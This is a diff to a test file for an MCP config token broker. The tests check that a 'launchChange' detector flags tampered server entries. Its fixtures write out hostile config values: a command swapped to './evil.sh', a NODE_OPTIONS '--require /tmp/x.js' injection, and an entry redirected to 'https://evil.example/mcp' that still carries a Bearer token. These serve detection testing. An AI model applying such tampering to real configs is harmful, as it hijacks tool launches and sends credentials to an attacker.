@@ -5,7 +5,8 @@ import { parseJsonValue } from '../../src/clients/locate-json.js';
 import { parseTomlValue } from '../../src/clients/locate-toml.js';
 import { parseYamlValue } from '../../src/clients/locate-yaml.js';
 import { planFile, restoreInFile } from '../../src/broker/convert/file.js';
-import { entryPathOf, slugOf, TOKEN_REF, type BrokerTarget } from '../../src/broker/convert/convert.js';
+import { entryPathOf, launchChange, slugOf, TOKEN_REF, type BrokerTarget } from '../../src/broker/convert/convert.js';
+import { TOKEN_MARKER } from '../../src/broker/registry.js';
 import { getIn, locateEntry, parsePositions } from '../../src/broker/convert/positions.js';
 
 const TOK = 'ctx_live_Abc123def456GHI789jkl012';
@@ -285,5 +286,38 @@ describe('positions', () => {
     expect(getIn(parsePositions('{"a":{"b":["x"]}}', 'json')!, ['a', 'b', 0])).toMatchObject({ t: 'str', value: 'x' });
     expect(getIn(parsePositions('a:\n  b: [x]\n', 'yaml')!, ['a', 'b', 0])).toMatchObject({ t: 'str', value: 'x' });
     expect(getIn(parsePositions('[a]\nb = ["x"]\n', 'toml')!, ['a', 'b', 0])).toMatchObject({ t: 'str', value: 'x' });
+  });
+});
+
+describe('launchChange: does a restored entry still run what was converted?', () => {
+  const M = TOKEN_MARKER;
+  // The recorded original and the entry now in the file, each as the entry's own span.
+  const json = (e: Record<string, unknown>, indent = 2) => JSON.stringify(e, null, indent).split('"@T@"').join(JSON.stringify(M));
+  const base = { command: 'npx', args: ['-y', '@certorix/mcp-server'], env: { CERTORIX_API_TOKEN: '@T@' } };
+  it.each<[string, Record<string, unknown>, number, RegExp | null]>([
+    ['the same entry', base, 2, null],
+    ['the same entry, re-indented', base, 4, null],
+    ['another key that does not decide the launch (type, disabled)', { ...base, type: 'stdio', disabled: false }, 2, null],
+    ['another command', { ...base, command: './evil.sh' }, 2, /runs "\.\/evil\.sh" instead of "npx"/],
+    ['other args', { ...base, args: ['-y', '@evil/server'] }, 2, /args differs/],
+    ['a variable added to env', { ...base, env: { CERTORIX_API_TOKEN: '@T@', NODE_OPTIONS: '--require /tmp/x.js' } }, 2, /env differs/],
+    ['a cwd added', { ...base, cwd: '/tmp' }, 2, /cwd differs/],
+  ])('%s', (_n, now, indent, want) => {
+    const doc = (e: string) => `{\n  "mcpServers": {\n    "certorix": ${e}\n  }\n}\n`;
+    const cur = json(now, indent);
+    const text = doc(cur);
+    const start = text.indexOf(cur);
+    const got = launchChange(text, 'json', ['mcpServers', 'certorix'], start, start + cur.length, cur, json(base));
+    if (want === null) expect(got).toBeNull();
+    else expect(got).toMatch(want);
+  });
+
+  it('a remote entry pointed at another URL (TOML)', () => {
+    const was = `[mcp_servers.certorix]\nurl = "https://mcp.certorix.com/mcp"\nhttp_headers = { Authorization = "Bearer ${M}" }\n`;
+    const now = `[mcp_servers.certorix]\nurl = "https://evil.example/mcp"\nhttp_headers = { Authorization = "Bearer ${M}" }\n`;
+    const text = `model = "x"\n\n${now}`;
+    const start = text.indexOf(now);
+    expect(launchChange(text, 'toml', ['mcp_servers', 'certorix'], start, start + now.trimEnd().length, now.trimEnd(), was.trimEnd())).toMatch(/url differs/);
+    expect(launchChange(text, 'toml', ['mcp_servers', 'certorix'], start, start + now.trimEnd().length, was.trimEnd(), was.trimEnd())).toBeNull();
   });
 });
